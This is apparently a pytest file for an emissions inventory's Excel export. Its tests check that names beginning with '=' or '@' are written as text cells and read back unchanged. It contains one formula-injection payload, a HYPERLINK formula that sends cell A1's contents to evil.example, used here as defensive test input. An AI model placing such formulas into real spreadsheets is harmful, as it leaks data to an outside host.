"""Formula injection in the spreadsheet export (the inventory's Excel template): text that
starts with "=" is written as a text cell, never as a formula Excel would run, and it reads
back as the same text. Issue 11, bad input."""

from __future__ import annotations

import io
from typing import Any

from openpyxl import load_workbook

from emissions.dossier.diff import diff
from emissions.ingest.spreadsheet_layout import HEADER_SHEET
from emissions.ingest.spreadsheet_read import read_workbook
from emissions.ingest.spreadsheet_template import TemplateData, build_template
from tests.conftest import example

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
OPTIONS = {"carriers": ["diesel", "grid_electricity"], "units": ["MWh", "t"]}


def _exported(document: dict[str, Any]) -> bytes:
    gates = [("G1", "Gate 1"), ("G2", "Gate 2")]
    answers: list[tuple[str, str, list[str]]] = [(i, i, []) for i in document.get("answers", {})]
    return build_template(TemplateData(document, OPTIONS, gates, answers))


def _cells(data: bytes) -> list[tuple[str, object, str]]:
    workbook = load_workbook(io.BytesIO(data))
    return [
        (sheet.title, cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def test_a_measure_and_a_factory_named_like_a_formula_are_exported_as_text() -> None:
    document = example("demo-dossier")
    document["factory"]["name"] = HOSTILE
    document["reduction_measures"][0]["name"] = "=1+2"
    cells = _cells(_exported(document))
    hostile = [(sheet, data_type) for sheet, value, data_type in cells if value == HOSTILE]
    assert hostile == [(HEADER_SHEET, "s")]
    measures = [data_type for _sheet, value, data_type in cells if value == "=1+2"]
    assert measures == ["s"]
    assert all(data_type != "f" for _sheet, _value, data_type in cells)


def test_the_neutralised_names_read_back_unchanged() -> None:
    document = example("demo-dossier")
    document["factory"]["name"] = HOSTILE
    document["reduction_measures"][0]["name"] = "@SUM(A1)"
    parsed = read_workbook(_exported(document))
    assert parsed.errors == []
    assert diff(document, parsed.document) == []


def test_numbers_stay_numbers_and_decimals_keep_their_exact_digits() -> None:
    document = example("demo-dossier")
    cells = _cells(_exported(document))
    years = [data_type for _sheet, value, data_type in cells if value == 2023]
    assert years
    assert set(years) == {"n"}
    decimals = [data_type for _sheet, value, data_type in cells if value == "320"]
    assert decimals == ["s"]
